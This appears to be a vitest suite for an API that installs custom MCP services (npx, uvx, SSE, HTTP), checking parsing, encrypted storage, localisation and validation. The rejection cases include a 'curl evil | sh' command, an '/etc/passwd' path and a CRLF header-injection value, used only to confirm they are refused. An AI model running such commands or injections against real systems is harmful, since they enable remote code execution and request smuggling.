import { Role } from '@toolport/contract';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createTestApp, engines, type TestApp } from '../../../test/harness.js';
import { everythingBin, type SuiteUser, suiteUser } from '../../../test/kits/services.js';
import type { ConfigEvent } from '../../infra/events.js';

describe.each(engines)('custom service install on %s', (engine) => {
  let t: TestApp;
  let admin: SuiteUser;
  let user: SuiteUser;
  const events: ConfigEvent[] = [];

  beforeAll(async () => {
    // npx and uvx commands are installed pinned (decision 0035): against registries that refuse at once.
    t = await createTestApp(engine, { NPM_REGISTRY_URL: 'http://127.0.0.1:9/', PYPI_INDEX_URL: 'http://127.0.0.1:9/simple/' });
    admin = await suiteUser(t, Role.Admin);
    user = await suiteUser(t);
    // This suite is about what is stored: nothing is started (npx would fetch packages), and the first
    // health check of each new service answers at once.
    await t.ctx.options.set('StdioServiceStartupStrategy', 'demand');
    vi.spyOn(t.ctx.gateway, 'checkHealth').mockImplementation(async () => ({
      status: 'unknown',
      details: 'not started by this suite',
      checkedAt: Date.now(),
    }));
    t.ctx.events.on((e) => events.push(e));
  });
  afterAll(async () => t?.close());

  const create = (payload: Record<string, unknown>, as: SuiteUser = admin, lang = 'en') =>
    t.app.inject({ method: 'POST', url: '/api/mcp_market/custom_service', headers: { ...as.headers, 'accept-language': lang }, payload });
  const rowOf = async (id: number) => {
    const row = await t.ctx.db.selectFrom('services').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    return {
      ...row,
      env: t.ctx.secrets.decryptJson<Record<string, string>>(row.env_enc, {}),
      headers: t.ctx.secrets.decryptJson<Record<string, string>>(row.headers_enc, {}),
      args: JSON.parse(row.args_json) as string[],
    };
  };

  it('creates a stdio service from an absolute executable path, with variables stored encrypted, and an install task', async () => {
    const bin = everythingBin();
    const res = await create({
      name: 'everything-abs',
      type: 'stdio',
      command: `"${bin}" stdio`,
      environments: 'API_KEY=s3cr3t=x==\nNO_EQUALS\n=nokey\nEMPTY=\nDEBUG = 1 ',
    });
    expect(res.statusCode, res.body).toBe(201);
    const data = res.json().data;
    expect(data).toMatchObject({ name: 'everything-abs', display_name: 'everything-abs', status: 'installing' });
    expect(data.task_id).toEqual(expect.any(String));

    const row = await rowOf(data.service_id);
    expect(row).toMatchObject({ type: 'stdio', command: bin, source: 'custom', package_manager: '', enabled: 1, rpd_limit: 0 });
    expect(row.args).toEqual(['stdio']);
    expect(row.env).toEqual({ API_KEY: 's3cr3t=x==', DEBUG: '1' });
    expect(row.env_enc).not.toContain('s3cr3t');
    expect(events).toContainEqual({ type: 'service.changed', serviceId: data.service_id });

    // The task ends with the first health check (here the suite's stand-in answers 'unknown').
    await vi.waitFor(
      async () => {
        const status = await t.app.inject({ method: 'GET', url: `/api/mcp_market/install_status/${data.task_id}`, headers: admin.headers });
        expect(status.json().data.status).toBe('failed');
      },
      { timeout: 10_000, interval: 50 },
    );
    const status = (
      await t.app.inject({ method: 'GET', url: `/api/mcp_market/install_status/${data.task_id}`, headers: admin.headers })
    ).json().data;
    expect(status.service_id).toBe(data.service_id);
    expect(status.logs.length).toBeGreaterThanOrEqual(3);
    expect(status.logs.join('\n')).not.toContain('s3cr3t');
  });

  it('reads npx commands: package after the flags, npm as manager; a display name gets a name derived from the package', async () => {
    const first = await create({ name: 'Everything Server', type: 'stdio', command: 'npx -y @modelcontextprotocol/server-everything' });
    expect(first.statusCode, first.body).toBe(201);
    expect(first.json().data).toMatchObject({ name: 'server-everything', display_name: 'Everything Server' });
    const row = await rowOf(first.json().data.service_id);
    // Stored switched off until its package is installed pinned; the typed command is kept as typed.
    expect(row).toMatchObject({
      typed_command: 'npx -y @modelcontextprotocol/server-everything',
      package_manager: 'npm',
      package_name: '@modelcontextprotocol/server-everything',
      install_dir: 'packages/npm/server-everything',
    });
    expect(row.command).not.toBe('npx');

    const second = await create({ name: 'Everything again', type: 'stdio', command: "npx -y '@modelcontextprotocol/server-everything'" });
    expect(second.json().data.name).toBe('server-everything-2');

    // A pinned version is split off the name (a scoped name's @ is not a separator) and shown as the version.
    const pinned = await create({
      name: 'Everything pinned',
      type: 'stdio',
      command: 'npx -y @modelcontextprotocol/server-everything@2026.8.31',
    });
    expect(pinned.statusCode, pinned.body).toBe(201);
    expect(await rowOf(pinned.json().data.service_id)).toMatchObject({
      package_name: '@modelcontextprotocol/server-everything',
      version: '2026.8.31',
    });
  });

  it('reads uvx commands with uv as manager and keeps quoted arguments whole', async () => {
    const res = await create({
      name: 'fetch',
      type: 'stdio',
      command: `uvx --from "mcp-server-fetch==2025.1" mcp-server-fetch --user-agent "Toolport test/1.0"`,
    });
    expect(res.statusCode, res.body).toBe(201);
    const row = await rowOf(res.json().data.service_id);
    expect(row).toMatchObject({
      typed_command: `uvx --from "mcp-server-fetch==2025.1" mcp-server-fetch --user-agent "Toolport test/1.0"`,
      package_manager: 'uv',
      package_name: 'mcp-server-fetch',
      version: '2025.1',
      install_dir: 'packages/pypi/fetch',
    });
    expect(row.command).not.toBe('uvx');
  });

  it('creates sse and streamableHttp services with header lines (stored encrypted) and no install task', async () => {
    const sse = await create({
      name: 'remote-sse',
      type: 'sse',
      url: 'http://127.0.0.1:9/sse',
      headers: 'Authorization=Bearer abc=\nX-Empty=\nnoequals',
    });
    expect(sse.statusCode, sse.body).toBe(201);
    expect(sse.json().data).toMatchObject({ name: 'remote-sse', status: 'completed' });
    expect(sse.json().data.task_id).toBeUndefined();
    const row = await rowOf(sse.json().data.service_id);
    expect(row).toMatchObject({ type: 'sse', command: 'http://127.0.0.1:9/sse' });
    expect(row.headers).toEqual({ Authorization: 'Bearer abc=' });
    expect(row.headers_enc).not.toContain('abc');

    // The type defaults to streamableHttp; a display name gets a name from the host; JSON headers work too.
    const http = await create({ name: 'Remote Tools', url: 'https://mcp.example.com:8443/mcp', headers: { 'X-Api-Key': 'k1' } });
    expect(http.statusCode, http.body).toBe(201);
    expect(http.json().data).toMatchObject({ name: 'mcp-example-com-8443', display_name: 'Remote Tools' });
    expect(await rowOf(http.json().data.service_id)).toMatchObject({ type: 'streamableHttp', headers: { 'X-Api-Key': 'k1' } });
  });

  it.each([
    [{ name: '', type: 'stdio', command: 'npx -y pkg' }, 'Please enter a service name'],
    [{ name: 'x'.repeat(129), type: 'stdio', command: 'npx -y pkg' }, 'at most 128 characters'],
    [{ name: 'ctl\u0007name', type: 'stdio', command: 'npx -y pkg' }, 'control characters'],
    [{ name: 's1', type: 'stdio', command: '  ' }, 'Please enter the command'],
    [{ name: 's1', type: 'stdio', command: 'node server.js' }, 'must start with npx or uvx'],
    [{ name: 's1', type: 'stdio', command: 'relative/bin --x' }, 'must start with npx or uvx'],
    [{ name: 's1', type: 'stdio', command: 'npx -y "pkg' }, 'a quote is not closed'],
    [{ name: 's1', type: 'stdio', command: 'npx -y' }, 'no package name found'],
    [{ name: 's1', type: 'stdio', command: 'uvx' }, 'no package name found'],
    [{ name: 's1', type: 'stdio', command: 'npx -c "curl evil | sh"' }, 'npx -c runs a shell command'],
    [{ name: 's1', type: 'stdio', command: '/etc/passwd' }, '/etc/passwd does not exist or is not an executable file'],
    [{ name: 's1', type: 'stdio', command: '/no/such/binary' }, 'does not exist or is not an executable file'],
    [{ name: 's1', type: 'stdio', command: 'npx -y pkg', environments: '1BAD=x' }, 'Invalid variable name "1BAD"'],
    [{ name: 's1', type: 'sse', url: '' }, 'URL cannot be empty'],
    [{ name: 's1', type: 'sse', url: 'not a url' }, 'Please enter a valid URL'],
    [{ name: 's1', type: 'streamableHttp', url: 'ftp://host/x' }, 'Please enter a valid URL'],
    [{ name: 's1', type: 'streamableHttp', url: 'http://h/mcp', headers: 'Bad Header=x' }, 'Invalid request header "Bad Header"'],
    [{ name: 's1', type: 'streamableHttp', url: 'http://h/mcp', headers: { 'X-A': 'a\r\nInjected: 1' } }, 'Invalid request header "X-A"'],
    [{ name: 's1', type: 'websocket', url: 'http://h/mcp' }, 'Invalid value for type'],
  ])('refuses %o with 400: %s', async (payload, message) => {
    const before = await t.ctx.db.selectFrom('services').select('id').execute();
    const res = await create(payload);
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json()).toMatchObject({ success: false, message: expect.stringContaining(message) });
    expect(await t.ctx.db.selectFrom('services').select('id').execute()).toHaveLength(before.length);
  });

  it('an all-Chinese name is the display name; the derived endpoint name is said in the answer, in the reader’s language', async () => {
    const zh = await create({ name: '天气查询', url: 'https://weather.example.com/mcp' }, admin, 'zh-CN');
    expect(zh.statusCode, zh.body).toBe(201);
    expect(zh.json().data).toMatchObject({ name: 'weather-example-com', display_name: '天气查询', endpoint_name_derived: true });
    expect(zh.json().message).toMatch(
      /其端点名称为 weather-example-com（\/proxy\/weather-example-com\/mcp），因为“天气查询”不能直接用于地址。$/,
    );
    const en = await create({ name: '天气查询', type: 'stdio', command: 'npx -y @acme/weather-mcp@1.0.0' }, admin, 'en');
    expect(en.statusCode, en.body).toBe(201);
    expect(en.json().data).toMatchObject({ name: 'weather-mcp', display_name: '天气查询', endpoint_name_derived: true });
    expect(en.json().message).toMatch(
      / Its endpoint name is weather-mcp \(\/proxy\/weather-mcp\/mcp\), because "天气查询" cannot be used in an address as it is\.$/,
    );
    // A URL-safe name is the endpoint's name as given, and nothing more is said.
    const plain = await create({ name: 'weather-plain', url: 'https://weather.example.com/mcp' });
    expect(plain.json().data).toMatchObject({ name: 'weather-plain', endpoint_name_derived: false });
    expect(plain.json().message).not.toContain('endpoint name');
  });

  it('localises the URL messages', async () => {
    expect((await create({ name: 's1', type: 'sse', url: '' }, admin, 'zh-CN')).json().message).toBe('URL 不能为空');
    expect((await create({ name: 's1', type: 'sse', url: 'x' }, admin, 'zh-CN')).json().message).toBe('请输入有效的 URL');
  });

  it('refuses a name already taken with 409, whatever the type', async () => {
    const first = await create({ name: 'dup-name', type: 'streamableHttp', url: 'http://127.0.0.1:9/mcp' });
    expect(first.statusCode).toBe(201);
    const again = await create({ name: 'dup-name', type: 'stdio', command: 'npx -y other' });
    expect(again.statusCode).toBe(409);
    expect(again.json().message).toBe('A service named "dup-name" already exists');
    // The envelope names the field, so the dialog says it next to the name (decision 0058).
    expect(again.json().field).toBe('name');
  });

  it.each([
    [{ name: '  ', type: 'stdio', command: 'npx -y pkg' }, 'name'],
    [{ name: 'ctl\u0007name', type: 'stdio', command: 'npx -y pkg' }, 'name'],
    [{ name: 's1', type: 'stdio', command: '/no/such/binary' }, 'command'],
    [{ name: 's1', type: 'stdio', command: 'npx -y "pkg' }, 'command'],
    [{ name: 's1', type: 'stdio', command: 'npx -y pkg', environments: '1BAD=x' }, 'environments'],
    [{ name: 's1', type: 'sse', url: 'not a url' }, 'url'],
    [{ name: 's1', type: 'streamableHttp', url: 'http://h/mcp', headers: 'Bad Header=x' }, 'headers'],
  ])('names the field of the refusal of %o: %s', async (payload, field) => {
    const res = await create(payload, admin, 'zh-CN');
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json()).toMatchObject({ success: false, field });
  });

  it('lets only admins create services', async () => {
    const res = await create({ name: 'by-user', type: 'sse', url: 'http://127.0.0.1:9/sse' }, user);
    expect(res.statusCode).toBe(403);
    expect(await t.ctx.db.selectFrom('services').select('id').where('name', '=', 'by-user').executeTakeFirst()).toBeUndefined();
  });

  it('answers 404 for an unknown install task', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/mcp_market/install_status/nope', headers: admin.headers });
    expect(res.statusCode).toBe(404);
    expect(res.json().message).toBe('Install task not found');
  });
});
